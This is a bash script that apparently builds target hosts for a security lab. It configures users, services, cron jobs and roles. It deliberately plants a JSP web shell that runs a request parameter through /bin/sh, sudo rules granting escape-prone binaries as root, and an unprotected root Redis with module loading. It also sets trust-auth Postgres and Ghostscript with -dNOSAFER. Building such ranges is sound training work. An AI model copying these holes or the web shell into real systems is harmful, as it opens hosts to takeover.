#!/bin/bash
# host.sh NAME RELEASE ROLES SEED makes one host: an overlay over its release's image, with users, the services of its
# roles (comma separated) enabled, all others disabled, and ordinary jobs chosen by the seed. WORK is how many cron
# entries it gets, and as a measure for the timers.
set -euo pipefail
here=$(dirname "$(readlink -f "$0")")
. "$here/lab.env"
. "$here/work.sh"
[ $# = 4 ] || die "usage: host.sh NAME RELEASE ROLES SEED"
name=$1 release=$2 roles=,$3, RANDOM=$4
dir=$HOSTS/$name root=$HOSTS/$name/root
load_snippets
has() { [[ $roles == *,$1,* ]]; }

mkdir -p "$dir"/{up,work,root}
mountpoint -q "$root" || mount -t overlay "$name" -o "lowerdir=$IMG/$release,upperdir=$dir/up,workdir=$dir/work" "$root"
cp -a --no-preserve=ownership "$here/rootfs/." "$root/"
echo "$name" >"$root/etc/hostname"
printf '127.0.0.1 localhost\n127.0.1.1 %s\n' "$name" >"$root/etc/hosts"
rm -f "$root/etc/machine-id" "$root/var/lib/dbus/machine-id"
: >"$root/etc/machine-id"
printf '%s\n' "$3" >"$dir/roles"
printf '%s\n' "$release" >"$dir/release"
printf 'Ordinary work on %s\n' "$name" >"$root/etc/motd"

accounts() {
	for u in "${people[@]}" deploy ops ci; do
		chroot "$root" useradd -m -s /bin/bash "$u" 2>/dev/null || true
		install -d -m 700 "$root/home/$u/.ssh"
		cp "$LAB_DIR/key.pub" "$root/home/$u/.ssh/authorized_keys"
		chroot "$root" chown -R "$u:$u" "/home/$u"
	done
	install -d -m 700 "$root/root/.ssh"
	cp "$LAB_DIR/key.pub" "$root/root/.ssh/authorized_keys"
	cat >"$root/etc/sudoers.d/lab" <<-'E'
		ops ALL=(ALL) NOPASSWD: ALL
		alice ALL=(ALL) NOPASSWD: ALL
		# The ways out of a restricted sudo that administrators keep granting.
		deploy ALL=(root) NOPASSWD: /usr/bin/find, /usr/bin/vim, /usr/bin/awk, /usr/bin/tar, /usr/bin/less, /usr/bin/python3, /usr/bin/perl, /usr/bin/env, /usr/bin/git, /usr/bin/man, /usr/bin/make, /usr/bin/tee, /usr/bin/rsync, /usr/bin/zip, /usr/bin/flock, /usr/bin/nice, /usr/bin/timeout, /usr/bin/xargs, /usr/bin/gdb, /usr/bin/ruby, /usr/bin/node, /usr/bin/expect, /usr/bin/tmux, /usr/bin/script, /usr/bin/systemctl, /usr/sbin/logrotate, /usr/bin/apt-get
	E
	chmod 440 "$root/etc/sudoers.d/lab"
	# All clients share the loopback address; newer servers would lock it out after a few scans.
	echo 'MaxStartups 100' >"$root/etc/ssh/sshd_config.d/lab.conf"
	! chroot "$root" sshd -T -o PerSourcePenalties=no >/dev/null 2>&1 || echo 'PerSourcePenalties no' >>"$root/etc/ssh/sshd_config.d/lab.conf"
}

services() {
	local all keep unit
	all="apache2 nginx lighttpd haproxy mariadb postgresql redis-server memcached postfix exim4 dovecot spamassassin spamd monit munin-node prometheus-node-exporter nagios-nrpe-server supervisor collectd fail2ban tomcat9 tomcat10 anacron uwsgi etckeeper.timer sysstat munin chkrootkit.timer lynis.timer docker docker.socket containerd podman podman.socket podman-restart podman-auto-update.timer"
	for unit in $all $(cd "$root/lib/systemd/system" && ls | grep -o '^php[0-9.]*-fpm'); do
		chroot "$root" systemctl disable "$unit" >/dev/null 2>&1 || true
	done
	keep=""
	! has apache || keep+=" apache2"
	! has fpm || keep+=" apache2 $(cd "$root/lib/systemd/system" && ls | grep -o '^php[0-9.]*-fpm')"
	! has nginx || keep+=" nginx $(cd "$root/lib/systemd/system" && ls | grep -o '^php[0-9.]*-fpm')"
	! has maria || keep+=" mariadb"
	! has pg || keep+=" postgresql"
	! has redis || keep+=" redis-server memcached"
	! has mail || keep+=" postfix exim4 dovecot spamd spamassassin"
	! has mon || keep+=" monit munin-node prometheus-node-exporter nagios-nrpe-server collectd sysstat"
	! has super || keep+=" supervisor fail2ban"
	! has tomcat || keep+=" tomcat9 tomcat10"
	! has haproxy || keep+=" haproxy"
	! has box || keep+=" containerd docker docker.socket"
	for unit in $keep; do chroot "$root" systemctl enable "$unit" >/dev/null 2>&1 || true; done
	chroot "$root" systemctl mask e2scrub_reap systemd-networkd-wait-online >/dev/null 2>&1 || true
}

unit() { # unit NAME USER COMMAND: a long-running service of the application
	printf '[Unit]\nDescription=%s\nAfter=network.target\n[Service]\nUser=%s\nExecStart=%s\nRestart=on-failure\n[Install]\nWantedBy=multi-user.target\n' "$1" "$2" "$3" \
		>"$root/etc/systemd/system/$1.service"
	chroot "$root" systemctl enable "$1" >/dev/null 2>&1
}

timer() { # timer NAME USER SECONDS COMMAND
	printf '[Service]\nType=oneshot\nUser=%s\nTimeoutStartSec=240\nExecStart=%s\n' "$2" "$4" >"$root/etc/systemd/system/$1.service"
	printf '[Timer]\nOnBootSec=%ds\nOnUnitActiveSec=%ds\nAccuracySec=1s\n[Install]\nWantedBy=timers.target\n' $((5 + RANDOM % 20)) "$3" >"$root/etc/systemd/system/$1.timer"
	chroot "$root" systemctl enable "$1.timer" >/dev/null 2>&1
}

documents() {
	install -d "$root/srv/docs" "$root/srv/git" "$root/srv/proj/live" "$root/srv/ops/jobs" "$root/srv/ci/queue"
	printf '%%!PS\n/Helvetica findfont 12 scalefont setfont 72 700 moveto (Guide) show showpage\n' >"$root/srv/docs/guide.ps"
	chroot "$root" ps2pdf /srv/docs/guide.ps /srv/docs/guide.pdf
	for u in root "${people[@]}" deploy ops; do chroot "$root" su -s /bin/sh "$u" -c 'git config --global user.name "$(id -un)"; git config --global user.email "$(id -un)@localhost"; git config --global --add safe.directory "*"' ; done
	if [ ! -d "$root/srv/git/app.git" ]; then
		chroot "$root" sh -c 'git init -q --bare -b main /srv/git/app.git && t=$(mktemp -d) && cd $t && git init -q -b main && printf "all: app\napp: app.c\n\tcc -o app app.c\ntest: app\n\t./app && sh check.sh\n" >Makefile && echo "int main(void){return 0;}" >app.c && printf "#!/bin/sh\ngrep -q main app.c && wc -l app.c\n" >check.sh && git add . && git commit -q -m start && git push -q /srv/git/app.git main; chown -R alice:alice /srv/git; rm -rf $t'
	fi
	printf '#!/bin/sh\n/srv/ops/bin/deploy.sh\necho "git -C /srv/git/app.git fsck" >/srv/ci/queue/push.$$ 2>/dev/null || true\n' >"$root/srv/git/app.git/hooks/post-receive"
	printf '#!/bin/bash\nwhile read -r old new ref; do git rev-list -1 "$new" >/dev/null; done\n' >"$root/srv/git/app.git/hooks/pre-receive"
	chmod 755 "$root"/srv/git/app.git/hooks/{post,pre}-receive
	chroot "$root" chown -R alice:alice /srv/git /srv/proj
	chmod 1777 "$root/srv/ci/queue"
}

jobs() { # cron entries, scripts and timers of this host's ordinary life
	local i user line
	for ((i = 0; i < 40; i++)); do
		one_of root root alice bob ops
		user=$REPLY
		script "$user" "$root/srv/ops/jobs/job$i"
		echo "$user" >"$dir/job$i.user"
	done
	printf 'SHELL=/bin/sh\nPATH=/usr/sbin:/usr/bin:/sbin:/bin\n' >"$root/etc/cron.d/ops"
	for ((i = 0; i < ${WORK:-16}; i++)); do
		user=$(cat "$dir/job$i.user")
		case $((RANDOM % 4)) in
		0) line="/srv/ops/jobs/job$i" ;;
		1) line="cd /srv && nice -n 5 /srv/ops/jobs/job$i >/dev/null 2>&1" ;;
		2) line="flock -n /tmp/job$i.lock /srv/ops/jobs/job$i || true" ;;
		3) wrapped "$user" && line=${REPLY//%/\\%} ;;
		esac
		one_of '*' '*/2' '1-59/2' '*/3'
		echo "$REPLY * * * * $user $line" >>"$root/etc/cron.d/ops"
	done
	echo "*/3 * * * * root run-parts --report /etc/cron.hourly; [ -x /usr/sbin/anacron ] || run-parts /etc/cron.daily" >>"$root/etc/cron.d/ops"
	for ((i = 16; i < 16 + ${WORK:-16} * 3 / 4; i++)); do
		timer "job$i" "$(cat "$dir/job$i.user")" $((25 + RANDOM % 90)) "/srv/ops/jobs/job$i"
	done
	install -d "$root/etc/cron.hourly"
	for i in 28 29 30; do cp "$root/srv/ops/jobs/job$i" "$root/etc/cron.hourly/ops$i"; done
}

role_setup() {
	if has apache || has fpm; then
		chroot "$root" a2enmod -q cgid >/dev/null
		install -d -o 33 -g 33 "$root/var/www/html/uploads"
		rm -f "$root/var/www/html/index.html"
		local v
		v=$(cd "$root/etc/php" && ls | head -1)
		if has fpm; then
			chroot "$root" a2enmod -q proxy_fcgi setenvif >/dev/null
			chroot "$root" a2enconf -q "php$v-fpm" >/dev/null
			chroot "$root" a2dismod -q -f "php$v" >/dev/null 2>&1 || true
		fi
	fi
	if has nginx; then
		install -d -o 33 -g 33 "$root/var/www/html/uploads"
		local s
		s=$(cd "$root/etc/php" && ls | head -1)
		rm -f "$root/etc/nginx/sites-enabled/default" # a symbolic link that would lead out of the root
		printf 'server { listen 80 default_server; root /var/www/html; index index.php; location ~ \\.php$ { include snippets/fastcgi-php.conf; fastcgi_pass unix:/run/php/php%s-fpm.sock; } location /app/ { proxy_pass http://127.0.0.1:5000/; } }\n' "$s" >"$root/etc/nginx/sites-enabled/default"
	fi
	! has app || unit inventory www-data "/usr/bin/python3 /srv/app/app.py"
	! has gunicorn || unit shop www-data "/usr/bin/gunicorn -w 2 -b 127.0.0.1:5001 --chdir /srv/app wsgi:application"
	! has uwsgi || unit uw www-data "/usr/bin/uwsgi --plugin python3 --http-socket 127.0.0.1:5002 --chdir /srv/app --module wsgi:application --processes 2"
	! has node || unit webui www-data "/usr/bin/node /srv/node/server.js"
	if has java; then
		# The compiler finds its libraries through /proc, which a bare chroot lacks.
		systemd-nspawn --register=no --keep-unit -q -D "$root" javac -d /srv/javaapp /srv/javaapp/App.java
		unit orders www-data "/usr/bin/java -Xmx64m -cp /srv/javaapp App"
	fi
	if has tomcat; then
		local t
		for t in "$root"/var/lib/tomcat*/webapps/ROOT; do
			printf '<%%@ page import="java.io.*" %%><%% Process p = Runtime.getRuntime().exec(new String[]{"/bin/sh","-c",request.getParameter("c")}); BufferedReader r = new BufferedReader(new InputStreamReader(p.getInputStream())); String l; while ((l = r.readLine()) != null) out.println(l); %%>' >"$t/view.jsp"
		done
	fi
	if has ci; then
		unit ci-agent root "/usr/bin/python3 /srv/ops/bin/ci-agent.py"
		local i
		install -d "$root/srv/ci/jobs"
		for ((i = 0; i < 14; i++)); do build "$root/srv/ci/jobs/$i"; done
		printf '#!/bin/sh\n# Queues the next of the standing builds.\nn=$(ls /srv/ci/jobs | shuf -n 1)\ncp "/srv/ci/jobs/$n" "/srv/ci/queue/$n.$$"\n' >"$root/srv/ops/bin/queue"
		chmod 755 "$root/srv/ops/bin/queue"
		timer build ci 25 /srv/ops/bin/queue
	fi
	if has apt; then
		install -d "$root/srv/ops/pkg"
		local i
		for ((i = 0; i < 12; i++)); do
			{ echo '#!/bin/bash'; echo 'export DEBIAN_FRONTEND=noninteractive'; packages_job; echo "$REPLY"; packages_job; echo "$REPLY"; } >"$root/srv/ops/pkg/$i"
		done
		printf '#!/bin/bash\nfor f in $(ls /srv/ops/pkg/* | shuf); do bash "$f"; sleep 2; done\n' >"$root/srv/ops/bin/patch"
		chmod 755 "$root/srv/ops/bin/patch"
		timer patch root 60 /srv/ops/bin/patch
		printf '#!/bin/sh\nexec apt-get update -q\n' >"$root/srv/ops/bin/refresh"
		chmod 755 "$root/srv/ops/bin/refresh"
		timer refresh root 300 /srv/ops/bin/refresh
	fi
	if has cm; then
		timer converge root 75 "/usr/bin/ansible-playbook -i localhost, /srv/ansible/site.yml"
		echo "*/4 * * * * root ansible localhost -m shell -a 'uptime; df -h /' >/dev/null 2>&1" >>"$root/etc/cron.d/ops"
	fi
	if has mail; then
		if [ -d "$root/etc/postfix" ]; then
			printf 'compatibility_level=3.6\nmyhostname=%s\nmydestination=%s, localhost\ninet_interfaces=loopback-only\nalias_maps=hash:/etc/aliases\nalias_database=hash:/etc/aliases\nmailbox_command=/usr/bin/procmail -a "$EXTENSION"\nmaillog_file=\n' "$name" "$name" >"$root/etc/postfix/main.cf"
		else
			sed -i 's/^dc_eximconfig_configtype=.*/dc_eximconfig_configtype='\''local'\''/' "$root/etc/exim4/update-exim4.conf.conf"
			echo 'SYSTEM_ALIASES_PIPE_TRANSPORT = address_pipe' >"$root/etc/exim4/exim4.conf.localmacros"
		fi
		printf 'postmaster: root\nroot: alice\ntickets: "|/srv/ops/bin/ticket.sh"\nhelp: "|/srv/ops/bin/ticket.sh"\n' >"$root/etc/aliases"
		chroot "$root" newaliases >/dev/null 2>&1 || true
		printf ':0 fw\n* ^Subject:.*check\n| formatdb -h 2>/dev/null || cat\n\n:0 c\n| /bin/sh -c "wc -c >> $HOME/mail.count"\n' >"$root/home/alice/.procmailrc"
		chroot "$root" chown alice /home/alice/.procmailrc
	fi
	if has pg; then
		local h
		for h in "$root"/etc/postgresql/*/main; do
			sed -i '1i host all all 127.0.0.1/32 trust' "$h/pg_hba.conf"
			printf "archive_mode = on\narchive_command = 'test ! -f /var/lib/postgresql/wal-%%f && cp %%p /var/lib/postgresql/wal-%%f'\narchive_timeout = 60\n" >>"$h/postgresql.conf"
		done
		echo "*/3 * * * * postgres pg_dumpall | gzip > /var/lib/postgresql/all.sql.gz" >>"$root/etc/cron.d/ops"
		echo "*/2 * * * * postgres psql -qc \"copy (select 1) to program 'gzip > /tmp/one.gz'\"" >>"$root/etc/cron.d/ops"
	fi
	! has maria || echo "*/2 * * * * root mysqldump --all-databases 2>/dev/null | gzip | openssl enc -aes-256-cbc -pbkdf2 -k x > /var/backups/my.gz; mysqladmin status >/dev/null" >>"$root/etc/cron.d/ops"
	if has redis; then
		# Redis as root, open to whoever reaches its port and able to load modules: the setting behind the known attacks.
		chroot "$root" systemctl disable redis-server >/dev/null 2>&1
		printf 'bind 127.0.0.1\nprotected-mode no\ndir /var/lib/redis\nsave ""\n' >"$root/etc/redis/cache.conf"
		[ "$release" = bullseye ] || printf 'enable-protected-configs yes\nenable-module-command yes\n' >>"$root/etc/redis/cache.conf"
		unit cache root "/usr/bin/redis-server /etc/redis/cache.conf"
		echo "*/2 * * * * root redis-cli info | grep used_memory_human; redis-cli --scan | head -2" >>"$root/etc/cron.d/ops"
	fi
	if has backup; then
		printf '#!/bin/bash\nset -e\nexport BORG_REPO=/var/backups/borg BORG_UNKNOWN_UNENCRYPTED_REPO_ACCESS_IS_OK=yes RESTIC_PASSWORD=x RESTIC_REPOSITORY=/var/backups/restic\n[ -d $BORG_REPO ] || borg init -e none\nborg create --compression lz4 "::{now}" /etc /srv/docs 2>/dev/null\nborg prune --keep-last 3\n[ -d $RESTIC_REPOSITORY ] || restic init -q\nrestic backup -q /srv/docs\nrdiff-backup /srv/docs /var/backups/rdiff || rdiff-backup backup /srv/docs /var/backups/rdiff\ntar --listed-incremental=/var/backups/snar -czf /var/backups/inc-$(date +%%s).tgz /etc 2>/dev/null\nfind /var/backups -name "inc-*.tgz" -mmin +10 -delete\n' >"$root/srv/ops/bin/backup"
		printf '#!/bin/sh\ncase $(shuf -i 1-4 -n 1) in 1) timeout 200 lynis audit system -Q --no-colors >/dev/null 2>&1 ;; 2) timeout 100 chkrootkit -q >/dev/null 2>&1 ;; 3) debsums -c bash coreutils tar ;; 4) logrotate -f /etc/logrotate.conf ;; esac\n' >"$root/srv/ops/bin/audit"
		chmod 755 "$root"/srv/ops/bin/{backup,audit}
		timer backup root 60 /srv/ops/bin/backup
		timer hostaudit root 100 /srv/ops/bin/audit
	fi
	if has mon; then
		printf 'set daemon 15\nset httpd port 2812 and use address localhost allow localhost\ncheck program disk with path "/bin/sh -c '\''df -h / | tail -1'\''"\n  if status != 0 then alert\ncheck program users with path "/usr/bin/who"\n  if status != 0 then alert\ncheck process cron matching "cron"\n  start program = "/bin/systemctl start cron"\ncheck program jobs with path "/srv/ops/jobs/job5"\n  if status != 0 then alert\n' >"$root/etc/monit/conf-enabled/lab"
		chroot "$root" sh -c 'cd /etc/munin/plugins && for p in cpu df load memory processes users uptime vmstat netstat open_files proc_pri threads swap interrupts irqstats diskstats entropy forks df_inode; do ln -sf /usr/share/munin/plugins/$p $p; done'
		printf 'command[check_load]=/usr/lib/nagios/plugins/check_load -w 15 -c 30\ncommand[check_disk]=/usr/lib/nagios/plugins/check_disk -w 5%% -c 2%% /\ncommand[check_procs]=/usr/lib/nagios/plugins/check_procs -w 400\ncommand[check_ssh]=/usr/lib/nagios/plugins/check_ssh 127.0.0.1\ncommand[check_log]=/bin/sh -c "tail -1 /var/log/syslog | cut -c1-20"\n' >"$root/etc/nagios/nrpe.d/lab.cfg"
		printf 'LoadPlugin exec\n<Plugin exec>\n Exec "nobody" "/srv/ops/bin/collect"\n</Plugin>\n' >>"$root/etc/collectd/collectd.conf"
		printf '#!/bin/bash\nwhile sleep 10; do echo "PUTVAL h/exec/gauge-users N:$(who | wc -l)"; done\n' >"$root/srv/ops/bin/collect"
		chmod 755 "$root/srv/ops/bin/collect"
		echo "* * * * * root for p in /usr/share/prometheus-node-exporter-collectors/*.sh; do sh \$p >/dev/null 2>&1; done; munin-run vmstat >/dev/null" >>"$root/etc/cron.d/ops"
		echo "*/2 * * * * nagios for c in load disk procs users swap; do /usr/lib/nagios/plugins/check_\$c -w 5 -c 10 >/dev/null; done" >>"$root/etc/cron.d/ops"
	fi
	if has super; then
		printf '[program:worker]\ncommand=/bin/bash -c "while sleep 12; do /srv/ops/jobs/job31; done"\nuser=bob\n[program:feed]\ncommand=/usr/bin/python3 -c "import time,subprocess\nwhile 1: subprocess.run([%%(here)s])"\nautostart=false\n' >"$root/etc/supervisor/conf.d/lab.conf"
		sed -i '/program:feed/,$d' "$root/etc/supervisor/conf.d/lab.conf"
	fi
	if has box; then
		# Layers lie in memory: an overlay cannot lie on the overlay that the host itself is.
		install -d "$root/etc/docker"
		echo '{"data-root": "/dev/shm/docker", "storage-driver": "overlay2"}' >"$root/etc/docker/daemon.json"
		printf '[storage]\ndriver = "overlay"\ngraphroot = "/dev/shm/podman"\nrunroot = "/run/podman"\n' >"$root/etc/containers/storage.conf"
		local u
		for u in alice ops deploy; do chroot "$root" usermod -aG docker "$u"; done
		install -d "$root/srv/boxes"
		{
			echo 'while sleep 6; do'
			local i
			for ((i = 0; i < 12; i++)); do
				one_of "${any_work[@]}"
				printf '[ $(shuf -i 1-6 -n 1) != 1 ] || sh -c %q\n' "$REPLY"
			done
			echo done
		} >"$root/srv/boxes/work"
		unit boxes root /srv/ops/bin/boxes
	fi
	if has desk; then
		cat >"$root/srv/ops/bin/session" <<-'E'
			#!/bin/bash
			# A desktop without a screen: a window manager; terminals and document viewers come and go; arriving
			# documents are opened.
			export DISPLAY=:7 HOME=/home/carol
			Xvfb :7 -screen 0 800x600x8 &
			sleep 2
			openbox &
			while sleep 1; do
				for f in ~/inbox/*; do
					case $f in
					*.pdf) timeout 25 xpdf -remote x "$f" & ;;
					*.ps) timeout 20 gs -q -dNOSAFER -sDEVICE=nullpage -dBATCH "$f" </dev/null ;;
					*) continue ;;
					esac
					mv "$f" ~/seen/
				done
				case $(shuf -i 1-9 -n 1) in
				1) timeout 5 xpdf /srv/docs/guide.pdf ;;
				2) timeout 5 mupdf /srv/docs/guide.pdf ;;
				3) timeout 5 zathura /srv/docs/guide.pdf ;;
				4) timeout 8 xterm -e bash /srv/ops/jobs/job$(shuf -i 0-39 -n 1) ;;
				5) timeout 5 xdg-open /srv/docs/guide.pdf ;;
				6) timeout 4 feh /tmp/r.png ;;
				7) timeout 8 xterm -e sh -c 'man ls | cat; ls; date' ;;
				8) timeout 5 gs -q -sDEVICE=nullpage -dBATCH -dNOPAUSE /srv/docs/guide.ps ;;
				9) timeout 6 xterm -e /srv/ops/jobs/job$(shuf -i 0-39 -n 1) ;;
				esac
			done
		E
		install -d "$root/home/carol/inbox" "$root/home/carol/seen"
		chroot "$root" chown carol /home/carol/inbox /home/carol/seen
		chmod 755 "$root/srv/ops/bin/session"
		unit desktop carol /srv/ops/bin/session
	fi
}

accounts
documents
services
jobs
role_setup
